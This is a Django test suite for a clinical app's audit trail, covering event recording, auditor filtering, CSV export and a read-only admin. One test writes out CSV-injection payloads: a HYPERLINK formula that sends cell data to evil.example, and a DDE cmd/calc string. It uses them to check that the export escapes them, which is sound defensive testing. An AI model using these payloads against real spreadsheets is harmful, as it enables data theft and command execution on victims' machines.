"""The audit trail records who did what, when and from where, for every access the issue lists; auditors
filter it and export it as CSV; nobody else reads it, and nobody edits it (the admin is read-only)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from django.test import Client
from django.utils import timezone

from accounts.models import profile_of
from audit import bounds
from audit.models import AuditEvent
from tests.conftest import signed_in, token_client


def actions(**filters) -> list[str]:
    return list(AuditEvent.objects.filter(**filters).order_by("pk").values_list("action", flat=True))


def test_signing_in_failing_and_signing_out_are_recorded_with_the_address(clinician):
    client = Client(HTTP_USER_AGENT="synthetic-browser/1.0")
    client.post("/login/", {"username": "clinician", "password": "wrong"})
    client.post("/login/", {"username": "clinician", "password": "clinician-pass-123"})
    client.post("/logout/")
    assert actions() == ["sign_in.failed", "sign_in", "sign_out"]
    failed, signed_in_row, _ = AuditEvent.objects.order_by("pk")
    assert failed.username == "clinician" and failed.user is None
    assert signed_in_row.user == clinician and signed_in_row.ip == "127.0.0.1"
    assert signed_in_row.user_agent == "synthetic-browser/1.0"
    assert "wrong" not in str(failed.detail)


def test_what_a_clinician_reads_and_does_on_a_patient_is_recorded(world, clinician):
    pages, api = signed_in(clinician), token_client(clinician)
    p, r, run, a = world.patient.pk, world.report.pk, world.run.pk, world.artifact.pk
    pages.get(f"/patients/{p}/")
    pages.get(f"/reports/{r}/")
    pages.get(f"/reports/{r}/original/")
    pages.get(f"/runs/{run}/stages/6/")
    pages.post(f"/runs/{run}/select/", {"artifact": a})
    pages.post(f"/runs/{run}/export/")
    api.get(f"/api/runs/{run}/artifacts/{a}")
    api.get(f"/api/runs/{run}/export/final.md")
    api.get(f"/api/reports/{r}/text")
    assert actions(patient_id=p, user=clinician) == [
        "patient.viewed",
        "report.viewed",
        "report.downloaded",
        "artifact.viewed",
        "run.selected",
        "run.exported",
        "artifact.viewed",
        "export.downloaded",
        "report.viewed",
    ]
    stage_view = AuditEvent.objects.filter(action="artifact.viewed").order_by("pk").first()
    assert (stage_view.object_type, stage_view.object_id, stage_view.detail) == (
        "run",
        str(run),
        {"stage": 6},
    )
    # A token call says which token: its use is on the trail (once a minute, like its last use).
    assert AuditEvent.objects.filter(action="token.used", user=clinician).count() == 1


def test_page_images_the_council_view_and_the_write_up_are_recorded(world, clinician, auditor, audit_clock):
    profile = profile_of(clinician)
    profile.display_name, profile.credentials = "Dr Synthetic Signer", "MD"
    profile.save()
    pages, api = signed_in(clinician), token_client(clinician)
    p, r, run = world.patient.pk, world.report.pk, world.run.pk
    pages.get(f"/reports/{r}/pages/1.png")
    pages.get(f"/reports/{r}/thumbs/1.png")  # a thumbnail: part of the report page, not recorded alone
    api.get(f"/api/reports/{r}/pages/1.png")
    pages.get(f"/runs/reports/{r}/council-view/")
    pages.get(f"/runs/reports/{r}/council-view/pages/1.png")
    pages.get(f"/runs/{run}/write-up/")
    pages.post(f"/runs/{run}/write-up/save/", {"text": "# Final draft\n\nEdited on the page.\n"})
    api.post(
        f"/api/runs/{run}/versions", {"text": "# Final draft\n\nEdited.\n"}, content_type="application/json"
    )
    api.get(f"/api/runs/{run}/versions/3")
    api.post(f"/api/runs/{run}/versions/3/sign")
    trail = AuditEvent.objects.filter(patient_id=p, user=clinician).order_by("pk")
    # The API's read of the same page, by the same user from the same address in the same window, is
    # counted (audit.bounds.first_read), and written as a count when an auditor reads the trail.
    assert [(e.action, e.detail) for e in trail] == [
        ("report.viewed", {"part": "page", "page": 1}),
        ("deid.preview_viewed", {}),
        ("deid.preview_viewed", {"page": 1}),
        ("version.viewed", {"artifact": world.artifact.pk}),
        ("version.saved", {"number": 2, "kind": "clinician"}),
        ("version.saved", {"number": 3, "kind": "clinician"}),
        ("version.viewed", {}),
        ("version.signed", {"number": 3, "kind": "clinician"}),
    ]
    assert {
        e.object_type for e in trail if e.action != "version.viewed" and e.action.startswith("version.")
    } == {"draftversion"}
    assert signed_in(auditor).get("/audit/").status_code == 200
    count = AuditEvent.objects.filter(patient_id=p, user=clinician).order_by("pk").last()
    assert (count.action, count.object_type, count.object_id) == ("report.viewed", "report", str(r))
    assert count.detail == {
        "part": "page",
        "page": 1,
        "repeats": 1,
        "window_start": bounds._window_start(audit_clock.now).isoformat(),
        "window_minutes": 10,
    }


def test_staff_writes_are_recorded_and_a_refused_attempt_leaves_no_success(world, staff, clinician):
    client = signed_in(staff)
    client.post("/patients/new/", {"label": "SYNTH-AUD"})
    client.post(f"/patients/{world.patient.pk}/edit/", {"label": world.patient.label, "age": "41"})
    edited = AuditEvent.objects.get(action="patient.edited")
    assert edited.detail == {"fields": ["age"]} and edited.patient_id == world.patient.pk
    assert actions(user=staff) == ["patient.created", "patient.edited"]
    signed_in(clinician).post(f"/patients/{world.patient.pk}/edit/", {"label": "X"})  # 403
    assert not AuditEvent.objects.filter(action="patient.edited", user=clinician).exists()


def test_no_identifier_reaches_the_trail(world, clinician, staff):
    signed_in(staff).post(f"/patients/{world.patient.pk}/edit/", {"label": world.patient.label, "notes": "x"})
    signed_in(clinician).get(f"/patients/{world.patient.pk}/")
    dump = " ".join(str(row) for row in AuditEvent.objects.values())
    assert world.patient.label not in dump and "r.pdf" not in dump


def test_tokens_made_used_and_revoked_are_recorded(clinician_client, clinician):
    clinician_client.post("/account/tokens/", {"name": "cron", "days": "5"})
    token = AuditEvent.objects.get(action="token.created")
    assert token.detail == {"days": 5} and token.object_type == "apitoken"
    clinician_client.post(f"/account/tokens/{token.object_id}/revoke/")
    assert actions(user=clinician) == ["token.created", "token.revoked"]


def _trail(auditor_client: Client, **query) -> list[str]:
    response = auditor_client.get("/audit/", query)
    assert response.status_code == 200
    return [row.action for row in response.context["rows"]]


def test_auditors_filter_by_user_action_patient_and_days(world, clinician, staff, auditor):
    signed_in(clinician).get(f"/patients/{world.patient.pk}/")
    signed_in(staff).get(f"/patients/{world.patient.pk}/")
    old = AuditEvent.objects.create(
        username="someone", action="sign_in", at=timezone.now() - timedelta(days=10)
    )
    client = signed_in(auditor)
    assert _trail(client, user="clinician") == ["patient.viewed"]
    assert _trail(client, action="patient.viewed", patient=world.patient.pk) == ["patient.viewed"] * 2
    today = timezone.localdate().isoformat()
    assert old.pk not in [r.pk for r in client.get("/audit/", {"since": today}).context["rows"]]
    ten_days_ago = (timezone.localdate() - timedelta(days=10)).isoformat()
    assert _trail(client, since=ten_days_ago, until=ten_days_ago) == ["sign_in"]
    bad = client.get("/audit/", {"since": today, "until": ten_days_ago})
    assert bad.status_code == 422 and "The first day comes after the last." in bad.content.decode()


def test_the_csv_holds_the_filtered_rows(world, clinician, auditor):
    signed_in(clinician).get(f"/patients/{world.patient.pk}/")
    response = signed_in(auditor).get("/audit/export.csv", {"action": "patient.viewed"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(r["username"], r["action"], r["patient_id"]) for r in rows] == [
        ("clinician", "patient.viewed", str(world.patient.pk))
    ]


def test_the_csv_cannot_carry_a_formula_into_the_auditors_spreadsheet(auditor):
    """Anyone may type a username at the sign-in page and send any User-Agent, and both go into the trail: a
    cell starting with = + - @ (or a tab, a carriage return) would be a formula in the auditor's spreadsheet.
    Such a cell is written with a leading apostrophe, the rest as it was."""
    formula, agent = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"
    Client(HTTP_USER_AGENT=agent).post("/login/", {"username": formula, "password": "wrong"})
    Client(HTTP_USER_AGENT="\t-2+3").post("/login/", {"username": "+1-555", "password": "wrong"})
    response = signed_in(auditor).get("/audit/export.csv", {"action": "sign_in.failed"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted((r["username"], r["user_agent"]) for r in rows) == [
        ("'+1-555", "'\t-2+3"),
        ("'" + formula, "'" + agent),
    ]
    assert not any(value[:1] in "=+-@\t\r" for row in rows for value in row.values() if value)


def test_only_auditors_and_administrators_read_the_trail(clinician, staff, auditor, administrator, outsider):
    for user in (clinician, staff):
        assert signed_in(user).get("/audit/").status_code == 403
        assert signed_in(user).get("/audit/export.csv").status_code == 403
    assert signed_in(auditor).get("/audit/").status_code == 200
    assert signed_in(administrator).get("/audit/").status_code == 200
    assert outsider.get("/audit/").status_code == 302


def test_the_admin_shows_the_trail_but_cannot_change_or_delete_it(administrator, clinician):
    event = AuditEvent.objects.create(user=clinician, username="clinician", action="sign_in")
    client = signed_in(administrator)
    assert client.get("/admin/audit/auditevent/").status_code == 200
    page = client.get(f"/admin/audit/auditevent/{event.pk}/change/")
    assert page.status_code == 200 and 'name="action"' not in page.content.decode()
    assert client.post(f"/admin/audit/auditevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
    assert client.get("/admin/audit/auditevent/add/").status_code == 403
    assert AuditEvent.objects.filter(pk=event.pk, action="sign_in").exists()


def test_what_staff_read_and_change_in_the_admin_is_recorded(staff, clinician, other_clinician, launched):
    """The admin is where staff keep a patient's identifiers and assign clinicians (Patient → Access): a look
    at the record there shows the identifiers, and an assignment changes who may read the patient."""
    from patients.models import Patient, PatientIdentifier, Report
    from tests.test_patient_identifiers_admin import _form

    patient = Patient.objects.create(label="SYNTH-ADMIN-AUDIT")
    PatientIdentifier.objects.create(patient=patient, kind="name", value="Synthetic Person")
    report = Report.objects.create(patient=patient, original_name="r.pdf", sha256="0" * 64, status="ready")
    client = signed_in(staff)
    url = f"/admin/patients/patient/{patient.pk}/change/"
    assert client.get(url).status_code == 200
    assert actions(patient_id=patient.pk) == ["patient.viewed", "identifiers.viewed"]
    last = AuditEvent.objects.order_by("pk").last().pk

    data = _form(patient, [("record_number", "SYN-7781")])
    data["identifiers-INITIAL_FORMS"] = "0"
    data |= {"clinicians": [str(other_clinician.pk)], "age": "41", "redactions-TOTAL_FORMS": "0"}
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert set(patient.clinicians.all()) == {other_clinician}
    rows = AuditEvent.objects.filter(pk__gt=last).order_by("pk")
    by_action = {row.action: row for row in rows}
    assert set(by_action) == {"patient.edited", "identifiers.changed", "patient.assigned"}
    assert by_action["patient.edited"].detail == {"fields": ["age"]}
    assert by_action["identifiers.changed"].detail == {"change": "added", "count": 1}
    assigned = by_action["patient.assigned"]
    assert assigned.detail == {"added": [other_clinician.pk], "removed": [clinician.pk]}
    assert assigned.user == staff and assigned.patient_id == patient.pk and assigned.ip == "127.0.0.1"
    assert "SYN-7781" not in str([row.detail for row in rows])

    # Reading a report again from the admin's list is recorded as from the page.
    client.post(
        "/admin/patients/report/", {"action": "reingest", "_selected_action": [str(report.pk)], "index": "0"}
    )
    assert actions(action="report.reingested") == ["report.reingested"]
